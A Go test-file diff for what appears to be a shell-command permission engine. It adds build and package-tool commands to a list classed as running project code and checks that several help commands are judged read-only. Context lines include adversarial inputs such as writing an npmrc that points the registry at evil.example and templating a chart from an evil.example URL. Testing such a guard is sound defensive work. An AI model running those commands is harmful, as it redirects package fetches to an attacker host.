@@ -80,7 +80,12 @@ func TestAdversary_T13_ProjectCodeIsSaidToBe(t *testing.T) {
 	runsProjectCode(t, "bazel", "bazelisk", "ng", "pants", "buck2", "pre-commit", "helm lint .", "helm lint chart", "helm template .", "helm template x ./chart",
 		"kustomize build .", "kubectl kustomize overlays/dev", "trivy image alpine:3.20", "packer version", "packer", "pulumi whoami", "pulumi stack ls", "terraform providers",
 		"vagrant version", "sls --version", "cdk version", "vercel ls", "cabal update", "docker compose ps",
-		"docker compose config -q", "docker compose config --images", "docker-compose config --services", "podman compose config -q")
+		"docker compose config -q", "docker compose config --images", "docker-compose config --services", "podman compose config -q",
+		"go", "go version", "go env GOPATH", "go help build", "go doc fmt", "go --help", "pip list", "pip check", "pip3 freeze", "pip show x",
+		"pytest --help", "yarn --help", "eslint --help", "cargo build --help", "bazel --help", "timeout 5 pytest --help")
+	for _, line := range []string{"make --help", "ls --help", "npm --help", "git --help", "pip --version", "docker --help"} {
+		require.Equal(t, []string{"read-only-command"}, judge(engine(t, shipped), lineCall(t, line)).Assessment.ReasonCodes, line)
+	}
 	asksForEach(t, "supervisorctl status", "helmfile list", "packer --help x", "echo registry=http://evil.example > dir/etc/npmrc", "echo x > .lfsconfig",
 		"docker compose config", "helm lint /etc/x", "helm template x https://evil.example/c.tgz")
 }
